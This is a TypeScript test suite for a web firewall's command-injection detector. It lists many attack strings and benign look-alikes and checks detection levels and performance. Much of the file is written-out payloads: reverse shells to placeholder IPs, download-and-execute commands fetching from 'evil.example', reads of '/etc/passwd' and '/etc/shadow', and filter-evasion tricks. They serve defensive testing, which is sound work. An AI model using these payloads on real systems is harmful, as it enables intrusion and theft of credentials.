import { test } from 'node:test';
import assert from 'node:assert/strict';
import type { DetectorContext, Finding } from '../../finding.ts';
import { cmdiDetector as detector } from './cmdi.ts';
import { parseShell } from './shell.ts';
import { globMatch, globPath } from './glob.ts';
import { base64Blob, cpuBestOf, detectorRunner, longTokens } from '../../../../test/helpers/detector-harness.ts';

const run = detectorRunner(detector, { source: 'query', name: 'q' });
const lowest = (fs: Finding[]): number => Math.min(4, ...fs.map((f) => f.paranoia));
const HEADER = { source: 'header', name: 'user-agent' } as const;
const BODY = { source: 'body', name: 'comment' } as const;

/** [value, highest paranoia level at which it must be found, context]. */
const attacks: [string, 1 | 2 | 3, Partial<DetectorContext>?][] = [
  // separators followed by real commands
  ['; cat /etc/passwd', 1],
  // argument injection: options that run a command or write a script where it is served
  ['--upload-pack=touch /tmp/pwned', 1],
  ['--checkpoint=1 --checkpoint-action=exec=sh /tmp/x.sh', 1],
  ['-oProxyCommand=sh -c id', 1],
  ['-exec id ;', 1],
  ['-o /var/www/html/shell.php http://evil.example/shell.txt', 1],
  // a `#` glued to the end, meant to cut the application's command line
  ['1;sleep 5#', 1],
  // arithmetic and sleeping probes: expr(1), PowerShell's Start-Sleep after a quote the value closes
  ['1;expr 268409241 - 13', 1],
  ["'; Start-Sleep -s 10; '", 1],
  // at(1) with a time runs what follows later
  ['; at now + 1 minute <<< id', 1],
  ['; at 10:00 -f /tmp/x', 1],
  ['| id', 1],
  ['|id', 1],
  ['&& whoami', 1],
  ['|| uname -a', 1],
  ['& ping -c 10 127.0.0.1 &', 1],
  ['127.0.0.1; ls -la /', 1],
  ['127.0.0.1 && ls /etc', 1],
  ['example.com|nslookup abc.attacker.example', 1],
  ['x;nc -e /bin/sh 10.0.0.1 4444', 1],
  ['foo\nwget http://evil.example/x.sh -O /tmp/x.sh', 1],
  [';sleep 10;', 1],
  ['1;sleep${IFS}9;#', 1],
  ['; CAT /ETC/PASSWD', 1],
  ['ls -la; rm -rf /tmp/x', 1],
  ['a;wget http://evil.example/sh -O-|sh', 1],
  ["'; id; echo '", 1],
  ['"; whoami; "', 1],
  ["';whoami'", 1],
  ['whoami;', 1],
  ['cd /;cd etc;column passwd', 1],
  // substitutions
  ['`id`', 1],
  ['$(whoami)', 1],
  ['ax--exec=`id`--remote=origin', 1],
  ['$(curl -s http://evil.example)', 1],
  ['x$(sleep 5)', 1],
  ['<(cat /etc/passwd)', 1],
  ['echo $(echo $(cat /etc/passwd))', 1],
  ['`curl -L http://evil.example/a`', 1],
  ['AAAA;$(printf \'hsab/nib/ e- 4321 1.0.0.721 cn\'|rev)', 1],
  // evasions inside the command word
  ["c'a't /etc/passwd", 1],
  ['w"h"o"am"i', 1],
  ['\\c\\a\\t /etc/passwd', 1],
  ['c$@at /etc/passwd', 1],
  ["ti''me sh -c id", 1],
  ["'i'fconfig", 1],
  ['cat${IFS}/etc/passwd', 1],
  [';cat$IFS$9/etc/passwd', 1],
  ['{cat,/etc/passwd}', 1],
  ['c{a,oun}t /etc/hosts', 1],
  ['{,ip,a}', 1],
  ['/???/c?t /???/p??s??', 1],
  ['/bin/ca? /et*/passwd', 1],
  ['cat /etc/pa??wd', 1],
  ['/usr/bin/[u]name -a', 1],
  ['a=c;b=at;$a$b /etc/passwd', 1],
  ['x=/etc/passwd; cat $x', 1],
  ['alias a=whoami', 1],
  ['w^h^o^a^m^i', 1],
  ['I`nv`oke-Expression "x"', 1],
  // bare commands with dangerous arguments
  ['cat /etc/passwd', 1],
  ['/bin/cat /etc/shadow', 1],
  ['bash -i >& /dev/tcp/10.0.0.1/8080 0>&1', 1],
  ['exec 5<>/dev/tcp/198.51.100.7/80', 1],
  ['d=/dev&&(sh)0>$d/tcp/198.51.100.7/777', 1],
  ['python -c \'import os;os.system("id")\'', 1],
  ['python3 -c "print(1)"', 1],
  ["perl -e 'system(\"id\")'", 1],
  ["php -r 'system(\"id\");'", 1],
  ['curl http://evil.example/s.sh | sh', 1],
  ['echo ZWNobyBoaQ== | base64 -d | bash', 1],
  ['printf dW5hbWUgLWE=|base64 -d|sh', 1],
  ['nc -lvp 4444', 1],
  ['/usr/bin/python3 -m http.server', 1],
  ['find / -name id_rsa -exec cat {} ;', 1],
  ['chmod +x /tmp/x', 1],
  ['uname -a', 1],
  ['ifconfig;', 1],
  // shell grammar without a known command
  ['() { :; }; /bin/bash -c id', 1],
  ['() { ignored; }; echo x', 1, HEADER],
  [':(){ :|:& };:', 1],
  ['f(){ f|f& };f', 1],
  // Windows cmd.exe and PowerShell
  ['& dir C:\\', 1],
  ['127.0.0.1 & dir c:\\', 1],
  ["admin';whoami;'", 1], // out of the quote, a command, and the quote opened again for the application's own
  ['admin";id;"', 1],
  ['localhost\nid', 1], // a line break after a lone token separates commands
  ['\nid', 1], // and so does one that starts the value (appended to a command line)
  ['x | sort -r /etc/passwd', 1], // a text filter reading a sensitive file
  ['x | sort | sh', 1], // output piped into a shell
  ['x | sort -count; id', 1], // a filter chained with another command
  ['\r\nwhoami', 1],
  [' \nls -la', 1],
  ['127.0.0.1\n/bin/ls', 1],
  ['x | type \\\\fileserver\\share\\notes.txt', 1],
  ['| type C:\\Windows\\win.ini', 1],
  ['; cmd /c whoami', 1],
  ['cmd.exe /c "net user"', 1],
  ['%COMSPEC% /c dir', 1],
  ['C:\\Windows\\System32\\cmd.exe /c whoami', 1],
  ['| set /a 1+1', 1],
  ['& certutil -urlcache -split -f http://evil.example/x.exe x.exe', 1],
  ['& bitsadmin /transfer j http://evil.example/x.exe C:\\x.exe', 1],
  ['powershell -enc SQBFAFgA', 1],
  ['powershell -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString(\'http://evil.example/a\')"', 1],
  ["IEX(New-Object Net.WebClient).DownloadString('http://evil.example/a.ps1')", 1],
  ['Invoke-WebRequest http://evil.example/x.ps1', 1],
  [';iwr http://evil.example/x.ps1', 1],
  ['for /f %i in (\'whoami\') do echo %i', 1],
  ['FOR /L %%G IN (1,1,5) DO echo %%G', 1],
  ['& for %a in (a,b) do cmd', 1],
  ['if exist C:\\boot.ini type C:\\boot.ini', 1],
  ['IF NOT DEFINED var (SET var=1)', 1],
  ['if %errorlevel% neq 0 echo failed', 1],
  ['if/i a==b foo', 1],
  // weaker shapes, found at higher paranoia
  ['Tom & Jerry; cat', 2],
  ['ls -la', 2],
  ['ansible all -m ping', 2],
  ['docker run -it ubuntu bash', 2],
  ['rm -rf meaning', 2],
  ['wget https://example.com/file.tar.gz', 2],
  ['ls /var/www/', 2],
  ['env --version', 2],
  ['whoami', 3],
  ['time who', 2],
  ['$(document_root)', 2],
  ['$((1+1))', 2],
  ['!-1!-2', 2],
  ['~+', 2],
  ['${x#y}', 2],
  // a probe after one token, with a blank (the token may end in a CR, empty lines may come first)
  ['8.8.8.8; id', 1],
  ['x | pwd', 1],
  ['8.8.8.8\r\nwhoami', 1],
  ['\n\nls -la /', 1],
  ['a" | id #', 1],
  ['127.0.0.1 ; ps aux', 1],
  ['8.8.8.8| net user', 1],
  ['a" | id "', 1],
  ["a' | id '", 1],
  ["a' `id` '", 1],
  ["somehostname.example.com' | id '", 1],
  // `$0` is the shell running the command
  [';$0 -c id', 1],
  ['`$0<<<id`', 1],
  // an interpreter piped into, with a here-string or leading the value still runs code
  ['x|python', 1],
  [';python', 1],
  ['x;python<<<print(1)', 1],
  // sleep with durations times a blind injection
  ['x\nsleep 5\n', 1],
  ['`sleep 5`', 1],
];

const benign: [string, Partial<DetectorContext>?][] = [
  // a sentence that starts with a capitalised command word, whatever paths it names
  ['Write a bash script that deletes log files older than 7 days in /var/log/myapp and compresses the rest.', { source: 'body', name: 'content' }],
  // a Python traceback: `File "...", line N, in name`
  ['Traceback (most recent call last):\n  File "/usr/local/lib/python3.11/site-packages/django/core/handlers/exception.py", line 55, in inner\n    response = get_response(request)\n  File "/app/shop/views.py", line 42, in checkout\n    order = Order.objects.get(id=order_id)', { source: 'body', name: 'body' }],
  // options that are no injection, and a `#` that is part of a word
  ['--dry-run', { source: 'query', name: 'flags' }],
  ['-o report.pdf', { source: 'query', name: 'args' }],
  ['C#', { source: 'query', name: 'q' }],
  // searches for two topics joined by `&`, tracking values joined by `|` (`history` is no program of a shell run
  // without a terminal)
  ['docker & kubernetes', { source: 'query', name: 's' }],
  ['typeahead|term|air fryer 6 qt|||history', { source: 'query', name: 'tref' }],
  // a page title (GA4's `dt`): capitalised words between separators make no chain
  ['Who we are; Where we work | Time Out', { source: 'query', name: 'dt' }],
  // the signed headers of presigned S3 and GCS URLs
  ['content-type;host', { source: 'query', name: 'X-Goog-SignedHeaders' }],
  ['host;x-amz-content-sha256;x-amz-date', { source: 'query', name: 'X-Amz-SignedHeaders' }],
  // Slack's link and mention syntax: a label after the bar
  ['`v2.14.3` to *prod*?\n<https://github.com/acme/api/compare/v2.14.2...v2.14.3|diff> • requested by <@U024BE7LH>', { source: 'body', name: 'text' }],
  ['<@U024BE7LH|kim> deployed <#C024BE7LR|general>', { source: 'body', name: 'text' }],
  // INI, TOML and .conf files: a key named like a command, then ` = ` and its value
  ['[client]\nport = 3306\nhost = db.internal\n', { source: 'body', name: '' }],
  ['[global]\ntimeout = 60\nindex-url = https://pypi.org/simple', { source: 'body', name: '' }],
  // JavaScript stack traces: `at` starts every frame, and at(1) takes a time, not a URL or a function
  ['Error: boom\n    at https://app.example.com/main.js:1:100\n    at HTMLButtonElement.<anonymous> (https://app.example.com/main.js:1:200)', { source: 'body', name: 'stack' }],
  ['TypeError: x is undefined\n    at Object.<anonymous> (/app/server.js:10:5)\n    at Module._compile (node:internal/modules/cjs/loader:1105:14)', { source: 'body', name: 'stack' }],
  // log and search query languages chain their stages with pipes into text filters (Splunk)
  ['search index=main status>=500 | stats count by uri_path | sort -count | head 10', { source: 'body', name: 'search' }],
  ['logs | sort timestamp | tail 5', { source: 'query', name: 'q' }],
  ['cats & dogs'],
  ['Tom & Jerry; Rock & Roll'],
  ['salt | pepper'],
  ["I'd like to ping you"],
  ['Hello; how are you'],
  ['echo in the mirror'],
  ['curl and divergence'],
  ['exec noun'],
  ['bash away in the gym'],
  ['zsh is the best!'],
  ['ls 300 lexus'],
  ['nc 8000 controller'],
  ['time he came.'],
  ['hello; time he came'],
  ['a hero; more than that'],
  ['DEAR FINN,--I think it would do; copy should reach us second post'],
  ['The Senora found herself a heroine; more than that, she became aware'],
  ["O'Brien"],
  ["don't stop; believe"],
  ['R&D department'],
  ['AT&T | Verizon | T-Mobile'],
  ['Q&A'],
  ['Fish & Chips | Menu | Contact'],
  ['Price: $5 each; $10 for two'],
  ['report-2024.pdf'],
  ['my file (1).txt'],
  ['photo_2023-01-01.jpg'],
  ['The cat sat on the mat; then it slept.'],
  ['time is money'],
  ['echo chamber effect'],
  ['Find the best deals'],
  ['sort by date'],
  ['rm 204, second floor'],
  ['kill the lights'],
  ['open the door & sit down'],
  ['sleep well; dream big'],
  ['Who am I? I wonder.'],
  ['if you have questions, call me'],
  ['If not defined otherwise, the default applies.'],
  ['For more information (see page 2) do nothing'],
  ['for each item in (the list) do the same'],
  ['5 > 3 && 2 < 4'],
  ['10 < 20 > 5'],
  ['a || b'],
  ['true'],
  ['Yes | No'],
  ['user@example.com'],
  ['https://example.com/search?q=a&b=c|d'],
  ['https://www.google.com/url?q=https://example.com/path/#:~:text=Inoltre%2C%20non&sa=U', { source: 'header', name: 'referer' }],
  ['{"cmd":"list","args":["a","b"]}', BODY],
  ['{"value":true,"key":"enabled","scope":"fileRequest"}'],
  ['function test() { return a | b; }', BODY],
  ['$(document).ready(function() { init(); });', BODY],
  ["$('#menu').toggle()", BODY],
  ['SELECT name FROM users WHERE id = 1;', BODY],
  ['Use `git status` to see the branch; the docs explain more.', BODY],
  ['Hi Bob,\nplease find attached the report.\nThanks & regards,\nAlice', BODY],
  ['C:\\Users\\Public\\Documents\\report.docx'],
  ['Q & A: type C:\\ in the box'],
  ['Hello\nid card lost'],
  ['Thanks\nwho is this?'],
  ["it's done; 'ok'"],
  ['if __name__ == "__main__":\n    main()'], // Python, not a cmd.exe conditional
  ['if __name__ == "__main__": main()'],
  ['[a-z][a-z0-9]*'], // a regular expression's classes fix no letter of a program name
  ['^[a-zA-Z0-9._\\-]+$'],
  ['Size: 8"x11"'],
  ['That\'s two "O"s in goose'],
  ["''that's the joke''.jpeg"],
  ['Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36', HEADER],
  ['Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0', HEADER],
  ['curl/8.5.0', HEADER],
  ['python-requests/2.31.0', HEADER],
  ['iPhone (Nextcloud iOS)', HEADER],
  ['Compra a MODULAR ALUMINIO ESTRUCTURAL, STRUT PROFILE PG30 30X30 4 SLOTS | SELF TAPPING SCREW PG30 M1'],
  ['Some text (in brackets).'],
  ['hello [text in brackets]'],
  ['page[1]'],
  ['data[index]'],
  ['Schauen Sie sich diese Zahl an: 1\'000\'000'],
  ['Invoke Web Request http://example.com/path/file.ps1'],
  ['The IEX (Investors Exchange) listing'],
  ['Go to store.\nAt the store, shop.'],
  [';"The quick brown fox jumped over the lazy dog"'],
  ['* Note: prices may change! (see terms)'],
  ['~/Documents/notes.md'],
  ['#hashtag #trending'],
  ['50% off & free shipping | today only'],
  ['Does the * shine bright?'],
  ['-1'],
  ['--'],
  ['Mr. Smith & Sons; est. 1901'],
  // SDK User-Agents: product/version;platform (an interpreter alone reads no program)
  ['sendgrid/8.1.3;nodejs', HEADER],
  ['acme-sdk/2.0;python', HEADER],
  // prose with `; id` after more than one word
  ['Bring your passport; id is required'],
  ['Hello; set the table'],
  ['chmod 777 vs 755'], // a question: a mode with no file to apply it to
  ['filter=price<100&sort=created at'], // a query string: `at` after an assignment, not glued to `&`
  ["it's a 'test | case' here and there"],
  // Unix program names are lower case: Typesense's backtick quoting of values
  ['brand:=[`Sleep Number`,`Tempur`]', { source: 'body', name: 'filter_by' }],
  // code that is a shell syntax error: a name glued to `(`
  ['int main(){vector<int>a(n);sort(a.begin(),a.end());}', { source: 'body', name: 'source' }],
  // sleep with an argument that is no duration
  ['Notes\nsleep 8 hours\nwake up', BODY],
  ['Recipe\nsplit the dough into 4\njoin the ends\nsleep 30 min', BODY],
  // a price
  ['$0 down, then $5 a month', BODY],
  // inline code with a word on each side, code elements of rich text
  ['Run `npm test` first', BODY],
  // a wildcard matches case-sensitively: Slack's bold `*Release*` names no program
  ['*Release* <https://github.com/acme/webapp/releases/tag/v1.3.0|v1.3.0> is live :tada:', BODY],
  ['<p>Run <code>make &amp;&amp; npm run build</code>.</p>', { source: 'body', name: 'content' }],
  // Korean prose around code counts as prose (a blog editor's HTML, a Markdown post)
  ['<h3>1. 파일 삭제</h3><pre><code>\nrm -i important.txt</code></pre><h3>2. 파일 보기</h3>', { source: 'body', name: 'content' }],
  ['다음 명령을 실행하세요:\n\n```\nsudo systemctl restart nginx && tail -f /var/log/nginx/error.log\n```\n\n그러면 로그가 보입니다.', BODY],
];


test('in a field that holds a pattern (pattern, urlRegex), what reads as shell counts from paranoia 2 on', () => {
  const pattern = { source: 'body', name: 'pattern' } as const;
  for (const value of ['^arn:[a-z0-9-]+:kms:[a-z0-9-]+:\\d{12}:(key|alias)/.+\\Z', '^Y|M|W|D|H|30min$', '; cat /etc/passwd']) {
    assert.ok(run(value, { ...pattern, paranoia: 3 }).every((f) => f.paranoia >= 2), value);
  }
  assert.ok(run('; cat /etc/passwd', { source: 'body', name: 'q' }).some((f) => f.paranoia === 1), 'elsewhere still paranoia 1');
  assert.ok(run('x|id', { source: 'body', name: 'urlRegex', paranoia: 3 }).every((f) => f.paranoia >= 2));
});

test('command injection is found at the expected paranoia level', () => {
  for (const [value, level, ctx] of attacks) {
    const fs = run(value, ctx);
    assert.ok(fs.length > 0, `missed: ${JSON.stringify(value)}`);
    assert.ok(lowest(fs) <= level, `${JSON.stringify(value)}: found only at paranoia ${lowest(fs)} (${fs.map((f) => f.ruleId).join(',')}), expected ${level}`);
    for (const f of fs) {
      assert.equal(f.category, 'cmdi');
      assert.match(f.ruleId, /^cmdi-[a-z-]+$/);
      assert.ok(f.matched.length > 0 && f.matched.length <= 120, `excerpt of ${JSON.stringify(value)}`);
      assert.ok(f.score >= 2 && f.score <= 5);
    }
  }
});

test('a clear attack at paranoia 1 scores enough to block on its own', () => {
  for (const [value, level, ctx] of attacks) {
    if (level !== 1) continue;
    const top = Math.max(...run(value, ctx).filter((f) => f.paranoia === 1).map((f) => f.score));
    assert.equal(top, 5, `${JSON.stringify(value)} scores ${top}`);
  }
});

test('benign text that looks like commands is not flagged at paranoia 1', () => {
  for (const [value, ctx] of benign) {
    const fs = run(value, ctx).filter((f) => f.paranoia === 1);
    assert.deepEqual(fs.map((f) => `${f.ruleId}: ${f.matched}`), [], `false positive: ${JSON.stringify(value)}`);
  }
});

test('some benign samples do fire at paranoia 2 or 3 (documented)', () => {
  // a common word after a separator is a weak signal; a Markdown code span with a command is one too
  assert.ok(run('Tom & Jerry; cat').some((f) => f.paranoia === 2));
  assert.ok(run('Use `ls -la` to list files in the directory.', BODY).some((f) => f.paranoia === 2));
  assert.deepEqual(run('Use `ls -la` to list files in the directory.', BODY).filter((f) => f.paranoia === 1), []);
});

test('commands in a Markdown code block of a post count one paranoia level higher, as in an inline code span', () => {
  const posts = [
    'I tried this:\n\n```\nkubectl exec -it mypod -- /bin/sh\n```\n\nbut it does not work.',
    'Fixed it with:\n```bash\nrm -rf node_modules && npm install\n```\nThanks for the help!',
    'I tried this:\n\n    chmod 755 run.sh\n    ./run.sh --verbose\n\nbut it does not work',
  ];
  for (const post of posts) {
    const fs = run(post, BODY);
    assert.deepEqual(fs.filter((f) => f.paranoia === 1).map((f) => f.ruleId), [], JSON.stringify(post));
    assert.ok(fs.some((f) => f.paranoia === 2), `still found at paranoia 2: ${JSON.stringify(post)}`);
  }
  // two inline code spans in a sentence are two quotes, not a chain of commands
  const nit = 'One nit: `rm -rf ./build` would be safer than `rm -rf build/*` in the script.';
  assert.deepEqual(run(nit, BODY).filter((f) => f.paranoia === 1).map((f) => f.ruleId), []);
  // no prose around the block, a fence left open, a line that is not indented, a reverse shell: as before
  for (const value of ['```\nid\n```', 'x\n```\ncat /etc/passwd\n```', 'Hello,\nchmod 755 run.sh\nthanks',
    'Please run this:\n```\nbash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n```\nthanks a lot', 'Please run this now\n```\nchmod 755 run.sh']) {
    assert.ok(run(value, BODY).some((f) => f.paranoia === 1), JSON.stringify(value));
  }
});

test('paranoia in the context bounds what is reported', () => {
  assert.deepEqual(run('ls -la', { paranoia: 1 }), []);
  assert.ok(run('ls -la', { paranoia: 2 }).length > 0);
});

test('parameter names are read as injection fragments too', () => {
  assert.ok(run('127.0.0.1 && ls /etc', { isName: true }).some((f) => f.paranoia === 1));
});

test('the shell lexer removes quotes, expands variables and braces, and splits at operators', () => {
  const words = (v: string): string[][] => parseShell(v).commands.map((c) => c.words.map((w) => w.text));
  assert.deepEqual(words("c'a't /et\"c\"/pa\\ss\\wd"), [['cat', '/etc/passwd']]);
  assert.deepEqual(words('a=1;b=2&&c|d||e&f\ng'), [['a=1'], ['b=2'], ['c'], ['d'], ['e'], ['f'], ['g']]);
  assert.deepEqual(words('cat${IFS}/etc/passwd'), [['cat', '/etc/passwd']]);
  assert.deepEqual(words('{cat,/etc/passwd}'), [['cat', '/etc/passwd']]);
  assert.deepEqual(words('x=ca;y=t;$x$y f'), [['x=ca'], ['y=t'], ['cat', 'f']]);
  assert.deepEqual(words("echo $'\\x69\\x64'"), [['echo', 'id']]);
  assert.deepEqual(words('${x:-/bin/sh} -c id'), [['/bin/sh', '-c', 'id']]);
  const subst = parseShell('a $(b c) `d`').commands;
  assert.deepEqual(subst.map((c) => [c.lead, c.words[0]?.text]), [['subst', 'b'], ['subst', 'd'], ['start', 'a']]);
  const redir = parseShell('cat < /etc/passwd > /tmp/x 2>&1').commands[0]!;
  assert.deepEqual(redir.redirects.map((r) => [r.op, r.target?.text ?? null]), [['<', '/etc/passwd'], ['>', '/tmp/x'], ['>&', null]]);
});

test('glob matching', () => {
  assert.ok(globMatch('c?t', 'cat'));
  assert.ok(globMatch('[a-c]at', 'bat'));
  assert.ok(!globMatch('[!a]at', 'aat'));
  assert.ok(globMatch('*.txt', 'a.b.txt'));
  assert.ok(globPath('/e??/pa*wd', '/etc/passwd'));
  assert.ok(!globPath('/*', '/etc'));
  assert.ok(!globPath('/*/*', '/etc/passwd'));
});

test('padding with thousands of harmless commands does not hide the payload', () => {
  for (const pad of [';a', 'x|', '\nfoo bar', '&&b']) {
    const v = pad.repeat(30_000) + ';cat /etc/passwd';
    assert.ok(run(v).some((f) => f.paranoia === 1), `payload after ${JSON.stringify(pad)} padding`);
  }
});

test('never throws, and handles hostile input', () => {
  const rnd = (n: number): string => {
    let s = '';
    for (let k = 0; k < n; k++) s += String.fromCharCode(Math.floor(Math.random() * 0x2500));
    return s;
  };
  const shellish = ';|&$(){}[]<>`\'"\\\n*?~#^%=! abcfor if cat/etc';
  const mix = (n: number): string => {
    let s = '';
    for (let k = 0; k < n; k++) s += shellish[Math.floor(Math.random() * shellish.length)];
    return s;
  };
  for (let k = 0; k < 300; k++) {
    run(rnd(1 + (k % 200)));
    run(mix(1 + (k % 300)));
  }
  for (const v of ['$(', '`', "'", '"', '${', '$((', '<(', '{,', '\\', '$', "$'\\x", '()', '() {', 'if', 'for %', '\u0000', '\ud800']) run(v);
});

test('linear time on large and pathological values', () => {
  const cases = [
    'The quick brown fox; jumps over the lazy dog & cat | time is money (see https://example.com). '.repeat(2200),
    ';'.repeat(200_000), '$('.repeat(100_000), '`'.repeat(200_000), "'\"".repeat(100_000), '{a,'.repeat(66_000),
    '${'.repeat(100_000), '$IFS'.repeat(50_000), '('.repeat(200_000), 'cat /etc/passwd; '.repeat(12_000),
    'a+'.repeat(100_000), '\\'.repeat(200_000), ';a'.repeat(100_000), 'a|b&c\n'.repeat(33_000), '/???/c?t '.repeat(22_000), 'for %i in (a) do if exist x echo & '.repeat(6_000),
  ];
  for (const v of cases) {
    let ms = Infinity;
    for (let k = 0; k < 10 && ms >= 50; k++) { // best of up to ten, in CPU time: the first runs compile, the machine may be busy
      const t = process.cpuUsage();
      run(v);
      const used = process.cpuUsage(t);
      ms = Math.min(ms, (used.user + used.system) / 1000);
    }
    assert.ok(ms < 250, `${JSON.stringify(v.slice(0, 20))}… (${v.length} chars) took ${ms.toFixed(1)} ms`);
  }
});

// Host administration tools after an operator, absolute system program paths, `-wrapper` shells, arithmetic
// constants in a command word, substitutions inside `${...}` and `$((...))`, repeated history designators.
const adminAndExpansionCases: [string, 1 | 2 | 3 | null, Partial<DetectorContext>?][] = [
  // [value, lowest paranoia level expected (null: nothing at any level)]
  ['uptime; ansible-inventory --graph', 1],
  ['ok && salt-call cmd.run whoami', 1],
  ['1|salt-key -L', 1],
  ['x; chef-apply recipe.rb', 1],
  [';lastlogin -u root', 1],
  ['/usr/sbin/somedaemon', 1],
  ['/bin/xyz', 1],
  ['gcc -wrapper /bin/bash,-c,id x.c', 1],
  ['clang -wrapper python3,-c,print(1) a.c', 1],
  ['$((4))2 -h', 2], // `42` is no program: arithmetic alone stays a paranoia-2 probe
  ['w$((0))get x', 2],
  ['$(( 7 ))z a /etc/passwd', 1],
  ['${u:-$(whoami)}', 1],
  ['${`uname -a`}', 1],
  ['$(( $(id -u) + 1 ))', 1],
  ['$((`sleep 5`))', 1],
  ['!-2!-1', 1],
  // benign look-alikes: stay above paranoia 1
  ['To deploy, run:\nansible-playbook site.yml', 2], // a line of its own in notes
  ['(see ansible-doc for the module list)', null],
  ['npm ci; npm test', 2],
  ['pepper;salt', null],
  ['A;AB;B;O', null],
  ['gcc -wrapper gdb,--args main.c', 2],
  ['/usr/lib/x86_64-linux-gnu', null],
  ['/opt/bin/tool', 2],
  ['${name} `code`', null],
  ['const s = `${n ? `more` : `less`}`;', null], // JavaScript template literals nest backticks in `${}` too
  ['x = `${a?`id`:`who`}`', null],
  ['`${items.map((i) => `${i.name}`).join()}`', null],
  ['Total: $((price))', 2],
  ['rating !-1', 2],
];

test('host administration tools, system program paths and nested expansions', () => {
  for (const [value, level, ctx] of adminAndExpansionCases) {
    const fs = run(value, ctx);
    if (level === null) { assert.deepEqual(fs.map((f) => f.ruleId), [], `should give nothing: ${JSON.stringify(value)}`); continue; }
    assert.equal(lowest(fs), level, `${JSON.stringify(value)}: lowest level ${lowest(fs)} (${fs.map((f) => `${f.ruleId}@${f.paranoia}`).join(',')}), expected ${level}`);
    if (level === 1) assert.ok(fs.some((f) => f.paranoia === 1 && f.score === 5), `${JSON.stringify(value)} does not score 5`);
  }
});

test('a command hidden in the middle of a long base64 value is still found', () => {
  const blob = base64Blob(75_000);
  const v = blob.slice(0, 50_000) + ';cat /etc/passwd;' + blob.slice(50_000);
  assert.deepEqual(run(v, { paranoia: 3 }).map((f) => f.ruleId), ['cmdi-separator-command']);
  assert.deepEqual(run(blob, { paranoia: 3 }), []);
});

test('linear time on 1 MB of base64, of hex and of one letter', () => {
  for (const v of longTokens()) {
    const ms = cpuBestOf(() => run(v));
    assert.ok(ms < 100, `${JSON.stringify(v.slice(0, 20))}… (${v.length} chars) took ${ms.toFixed(1)} ms`);
  }
});
